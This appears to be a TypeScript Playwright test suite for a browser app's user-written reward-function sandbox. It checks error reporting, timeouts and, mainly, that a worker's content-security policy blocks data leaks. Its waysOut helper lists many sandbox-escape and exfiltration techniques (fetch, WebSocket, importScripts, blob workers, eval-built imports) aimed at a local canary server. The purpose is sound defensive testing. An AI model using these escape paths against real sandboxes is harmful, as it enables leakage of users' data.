// A reward of the user's own in the built page: it is tried on the data, its faults are named, and nothing of it or of
// the rows that it sees gets out.

import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Locator, Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { startServer } from '../tools/launcher/server.mjs';
import { readJson, writeRecipe } from './dataFolder';
import { openApp } from './openApp';
import { REPOSITORY } from './repository';
import type { App } from './openApp';
import { card, importRecipe, openPage, startTraining, waitForEnd } from './pageDriver';

interface Canary {
  /** Another origin, which lets everyone read it. */
  origin: string;
  /** Connections so far: even one that is cut before its first request counts. */
  connections(): number;
  close(): void;
}

async function openCanary(): Promise<Canary> {
  let connections = 0;
  const headers = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
  const server = createServer((_, response) => {
    response.writeHead(200, { ...headers, 'Content-Type': 'text/javascript' }).end('export default 1;');
  });
  server.on('connection', () => connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, connections: () => connections, close: () => server.close() };
}

/**
 * Ways out of a worker, as JavaScript statements: by the globals, around removed ones, and by syntax.
 * `rows` stands for what is to be smuggled; `tries` counts those that were attempted.
 */
function waysOut(origin: string): string {
  return `
    let tries = 0;
    const attempt = async (way) => { tries++; try { await way(); } catch {} };
    const globals = [
      globalThis,
      Function('return this')(),
      (0, eval)('this'),
      (async () => {}).constructor('return globalThis')(),
      Object.getPrototypeOf(globalThis),
      Object.getPrototypeOf(Object.getPrototypeOf(globalThis)),
      Object.getPrototypeOf(globalThis).constructor.prototype,
    ];
    for (const scope of globals) {
      const g = await scope;
      await attempt(() => g.fetch.call(globalThis, '${origin}/fetch?' + rows));
      await attempt(() => { const x = new g.XMLHttpRequest(); x.open('GET', '${origin}/xhr?' + rows); x.send(); });
      await attempt(() => new g.WebSocket('${origin.replace('http', 'ws')}/ws?' + rows));
      await attempt(() => new g.EventSource('${origin}/events?' + rows));
      await attempt(() => g.importScripts('${origin}/scripts?' + rows));
      await attempt(() => new g.Worker('${origin}/worker?' + rows, { type: 'module' }));
      await attempt(() => new g.WebTransport('${origin.replace('http', 'https')}/transport?' + rows).ready);
      await attempt(() => new g.FontFace('f', 'url(${origin}/font?' + rows + ')').load());
      await attempt(() => {
        const text = 'fetch("${origin}/nested?' + rows + '")';
        new g.Worker(g.URL.createObjectURL(new g.Blob([text])));
      });
    }
    await attempt(() => import('${origin}/import?' + rows));
    await attempt(() => Function('rows', 'return import("${origin}/function?" + rows)')(rows));
    await attempt(() => (0, eval)('import("${origin}/eval")'));
    await attempt(() => import('data:text/javascript,' + encodeURIComponent('fetch("${origin}/data")')));
    await attempt(() => setTimeout('import("${origin}/timer")'));
    await new Promise((resolve) => setTimeout(resolve, 500));`;
}

let app: App;
let canary: Canary;

beforeAll(async () => {
  [app, canary] = await Promise.all([openApp(), openCanary()]);
});

afterAll(async () => {
  await app.close();
  canary.close();
});

const editor = (): Locator => app.page.locator('.ownReward').first();

/** Runs a script by the Preview button; resolves with the finished preview's state line. */
async function preview(javascript: string): Promise<string> {
  await editor().locator('textarea').fill(javascript);
  await editor().locator('button', { hasText: 'Preview' }).click();
  const line = editor().locator('[role=status]');
  await expect.poll(() => line.textContent()).toMatch(/estimates|Failed/);
  return (await line.textContent()) ?? '';
}

const problem = (): Promise<string | null> => editor().locator('[role=alert]').textContent();
const scores = async (): Promise<string[]> => editor().locator('.previewTable .score').allTextContents();

test('the build makes one file without imports of the worker that runs it, under the name that the server knows', async () => {
  const assets = join(REPOSITORY, 'dist/assets');
  const names = (await readdir(assets)).filter((name) => name.startsWith('userReward'));
  expect(names).toEqual([expect.stringMatching(/^userReward\.worker-[\w-]{8}\.js$/)]);
  expect(await readFile(join(assets, names[0]!), 'utf8')).not.toMatch(/\b(import|export)\b/);
  const response = await fetch(`${app.origin}/assets/${names[0]}`);
  expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; script-src 'unsafe-eval'");
});

test('a new reward previews on rows of the data: wanted texts score, broken ones do not', async () => {
  const { page } = app;
  await openPage(page, app.origin);
  await card(page, 3).locator('button', { hasText: 'All options' }).click();
  await page.locator('button', { hasText: 'Add a reward of your own' }).click();
  await editor().locator('button', { hasText: 'Preview' }).click();
  await expect.poll(scores).toHaveLength(20);
  const texts = await editor().locator('.previewTable tbody tr td:nth-child(2)').allTextContents();
  const byText = Object.fromEntries(texts.map((text, i) => [text, i]));
  const shown = await scores();
  expect(shown[byText['wanted']!]).toBe('1');
  expect(shown[byText['another answer']!]).toBe('0.2');
  expect(shown[byText['empty']!]).toBe('0');
});

test('an error is named with the line and the completion, and that row is shown', async () => {
  await preview('function scoreRow(row, index) {\n  if (index === 6) return row.nothing.length;\n  return 1;\n}');
  expect(await problem()).toMatch(/^Reward "my_reward" threw TypeError in line 2 on completion 7 of 20: Cannot read/);
  expect(await editor().locator('.previewTable .fault td').first().textContent()).toBe('7');
  await preview('function scoreRow(row) {\n  return ;;)\n}');
  expect(await problem()).toContain('Reward "my_reward" is not valid JavaScript in line 2: Unexpected token');
});

test('a wrong number of scores is named with both counts', async () => {
  await preview('function score(batch) {\n  return batch.answers.slice(1).map(() => 1);\n}');
  expect(await problem()).toContain('Reward "my_reward" returned 19 scores for 20 completions.');
});

test('a script that hangs is stopped after 10 s and named, and the page answers all the while', async () => {
  const ended = preview('function score() {\n  for (;;) {}\n}');
  const line = editor().locator('[role=status]');
  await expect.poll(() => line.textContent()).toContain('Running');
  expect(await app.page.evaluate(() => document.title.length > 0)).toBe(true);
  // The page answered while the script was still going.
  expect(await line.textContent()).toContain('Running');
  expect(await ended).toContain('Failed');
  expect(await problem()).toContain('Reward "my_reward" took longer than 10 s for 20 completions and was stopped.');
});

test('a script that tries every way out reaches nothing', async () => {
  const text = `async function score(batch) {
    const rows = encodeURIComponent(batch.questions.join().slice(0, 100));
    ${waysOut(canary.origin)}
    return batch.answers.map(() => tries);
  }`;
  const line = await preview(text);
  expect(line).toContain('20 completions');
  expect(Number((await scores())[0])).toBeGreaterThan(60);
  expect(canary.connections()).toBe(0);
});

test('in a run it is started by the trainer, reaches nothing either, and its error ends the run by name', async () => {
  const { page } = app;
  const javascript = `async function score(batch) {
    const rows = encodeURIComponent(batch.questions.join().slice(0, 100));
    ${waysOut(canary.origin)}
    throw new Error('tried ' + tries);
  }`;
  const path = await writeRecipe(app.folder, { sftSteps: 0, grpoSteps: 1, evalRows: 1 });
  const recipe = (await readJson(path)) as { grpo: object };
  const grpo = { ...recipe.grpo, reward_funcs: ['format', { name: 'smuggler', javascript }], reward_weights: null };
  await writeFile(path, JSON.stringify({ ...recipe, grpo }));
  await importRecipe(page, path);
  await startTraining(page);
  expect(await waitForEnd(page)).toEqual({ code: 'reward.threw' });
  expect(await page.locator('.banner.bad').textContent()).toMatch(
    /Reward "smuggler" threw Error in line \d+: tried \d\d/,
  );
  expect(canary.connections()).toBe(0);
});

/** Starts a worker on a page and resolves with its first message. */
async function ask(page: Page, origin: string, path: string): Promise<unknown> {
  await page.goto(`${origin}/`);
  return page.evaluate((url) => {
    interface Policies {
      trustedTypes: {
        createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
      };
    }
    const { trustedTypes } = globalThis as unknown as Policies;
    const policy = trustedTypes.createPolicy('lorikeet', { createScriptURL: (text: string) => text });
    const worker = new Worker(policy.createScriptURL(url), { type: 'module' });
    return new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = (event) => resolve(event.message);
    });
  }, path);
}

test('the policy alone, with every global still there, holds it as well; without the policy the same script gets out', async () => {
  const script = `const rows = 'rows';${waysOut(canary.origin)} postMessage(tries);`;
  const path = '/assets/userReward.worker-00000000.js';
  await mkdir(join(app.folder, 'assets'));
  await writeFile(join(app.folder, 'index.html'), '<p>page</p>');
  await writeFile(join(app.folder, path), script);
  const guarded = await startServer({ root: app.folder });
  const open = createServer(({ url }, response) => {
    response.setHeader('Content-Type', url === path ? 'text/javascript' : 'text/html');
    response.end(url === path ? script : '<p>page</p>');
  });
  await new Promise<void>((resolve) => open.listen(0, '127.0.0.1', resolve));
  const page = await app.page.context().newPage();
  try {
    expect(await ask(page, guarded.origin, path)).toBeGreaterThan(60);
    expect(canary.connections()).toBe(0);
    const { port } = open.address() as AddressInfo;
    expect(await ask(page, `http://localhost:${port}`, path)).toBeGreaterThan(60);
    expect(canary.connections()).toBeGreaterThan(0);
  } finally {
    await page.close();
    await guarded.close();
    open.close();
    open.closeAllConnections();
  }
});
